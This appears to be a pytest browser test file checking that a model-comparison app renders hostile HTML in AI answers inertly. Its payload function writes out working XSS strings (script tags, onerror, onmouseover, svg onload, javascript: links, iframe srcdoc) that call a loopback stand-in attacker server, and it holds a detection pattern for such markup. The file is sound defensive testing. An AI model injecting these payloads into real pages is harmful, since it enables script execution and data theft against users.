"""A model's answer is untrusted text: scripts, event handlers, `javascript:` links and raw HTML in it must be
shown inert in the battle panes and in the chat pane. The answers come from a loopback TGI-protocol server
(tests.support.faults.FaultServer); the payloads point at a loopback "attacker" server that records every hit."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from tests.browser.conftest import Browser
from tests.browser.ui import send, wait_votable
from tests.support.faults import FaultServer
from tests.support.helpers import RunningApp, start_app


@dataclass
class Attacker:
    """A loopback HTTP server standing for an attacker's: records the path of every request it gets."""

    server: ThreadingHTTPServer
    hits: list[str] = field(default_factory=list)

    @property
    def base(self) -> str:
        """Its base URL."""
        return f"http://127.0.0.1:{self.server.server_address[1]}"


@pytest.fixture(scope="module")
def attacker() -> Iterator[Attacker]:
    """A running Attacker."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

        do_POST = do_GET

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield Attacker(server, hits)
    server.shutdown()
    server.server_close()


def payload(base: str) -> str:
    """An answer that tries every classic way to run script or fire a request from a chat message."""
    return "\n\n".join(
        [
            "XSS-START",
            f"<script>window.__pwned='script';fetch('{base}/script')</script>",
            f"<img src=x onerror=\"window.__pwned='img';alert('img');fetch('{base}/img')\">",
            f"[click-md](javascript:window.__pwned='md-link';fetch('{base}/md-link'))",
            f"<a href=\"javascript:window.__pwned='raw-link';fetch('{base}/raw-link')\">click-raw</a>",
            f"<b onmouseover=\"window.__pwned='hover';fetch('{base}/hover')\">hover-me</b>",
            f'<iframe src="{base}/iframe" srcdoc="<script>parent.__pwned=1</script>"></iframe>',
            f"<svg onload=\"window.__pwned='svg';fetch('{base}/svg')\"><circle r=4></circle></svg>",
            f"<details open ontoggle=\"window.__pwned='details';fetch('{base}/details')\"><summary>sum</summary>"
            "details-body</details>",
            f'<object data="{base}/object"></object><embed src="{base}/embed">',
            "XSS-END",
        ]
    )


@pytest.fixture(scope="module")
def xss_app(attacker: Attacker, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningApp]:
    """app.py with two TGI models whose (loopback) server answers every request with the payload."""
    fault = FaultServer(mode="ok", text=payload(attacker.base)).start()
    gen = {"max_new_tokens": 64, "seed": 1}
    models = [
        {"name": name, "backend": "tgi", "endpoints": [fault.url], "template": "chatml", "generation": gen}
        for name in ("hostile-one", "hostile-two")
    ]
    app = start_app({"models": models}, tmp_path_factory.mktemp("xss-app"))
    yield app
    app.stop()
    fault.stop()


# what a pane may contain after sanitising: no script, no handlers, no javascript: URL, no embedded documents
DANGEROUS_JS = """(sel) => {
    const root = document.querySelector(sel);
    const found = [];
    for (const el of root.querySelectorAll('*')) {
        const tag = el.tagName.toLowerCase();
        if (['script', 'iframe', 'object', 'embed', 'frame'].includes(tag)) found.push('<' + tag + '>');
        for (const a of el.attributes) {
            if (a.name.startsWith('on')) found.push(tag + '[' + a.name + ']');
            if (/^\\s*javascript:/i.test(a.value)) found.push(tag + '[' + a.name + '=javascript:]');
            if (a.name === 'srcdoc') found.push(tag + '[srcdoc]');
        }
    }
    return found;
}"""


def interact(page: Any, pane: str) -> None:
    """Hover over and click everything the payload offers, as a curious voter would."""
    for text in ("hover-me", "click-md", "click-raw", "sum"):
        for element in page.locator(pane).get_by_text(text, exact=True).all():
            element.hover()
            element.click()


def assert_inert(b: Browser, attacker: Attacker, panes: list[str]) -> None:
    page = b.page
    url = page.url
    for pane in panes:
        text = page.inner_text(pane)
        assert "XSS-START" in text and "XSS-END" in text, "the answer was not shown"
        assert "hover-me" in text and "click-md" in text and "click-raw" in text
        interact(page, pane)
        assert page.url == url, "clicking a link in the answer navigated away"
    # a positive control: a request the test fires itself arrives, so the attacker listens and the page can reach it
    page.evaluate("(u) => fetch(u).then(r => r.text())", f"{attacker.base}/control")
    assert attacker.hits == ["/control"], f"the answer made the browser call the attacker: {attacker.hits}"
    assert [r for r in b.requests if r.startswith(attacker.base)] == [f"{attacker.base}/control"]
    for frame in page.frames:
        assert frame.evaluate("() => typeof window.__pwned") == "undefined", "a script from the answer ran"
    assert b.dialogs == [], f"a dialog opened: {b.dialogs}"
    for pane in panes:
        assert page.evaluate(DANGEROUS_JS, pane) == [], f"live markup survived in {pane}"
    assert len(page.frames) == 1, "the answer embedded a frame"


def test_hostile_html_in_battle_answers_is_inert(
    xss_app: RunningApp, attacker: Attacker, open_app: Callable[[str], Browser]
) -> None:
    attacker.hits.clear()
    b = open_app(xss_app.url)
    send(b.page, "battle", "Say something harmless.")
    wait_votable(b.page, "battle")
    b.shot("battle-payload")
    assert_inert(b, attacker, ["#battle-pane-a", "#battle-pane-b"])
    b.shot("battle-after-clicks")


def test_hostile_html_in_a_chat_answer_is_inert(
    xss_app: RunningApp, attacker: Attacker, open_app: Callable[[str], Browser]
) -> None:
    attacker.hits.clear()
    b = open_app(xss_app.url)
    b.page.get_by_role("tab", name="Chat").click()
    send(b.page, "chat", "Say something harmless.")
    b.page.wait_for_function(
        """() => document.querySelector('#chat-pane').innerText.includes('XSS-END')
            && document.querySelector('#chat-pane [data-testid="status-tracker"]').classList.contains('hide')"""
    )
    b.shot("chat-payload")
    assert_inert(b, attacker, ["#chat-pane"])
    b.shot("chat-after-clicks")
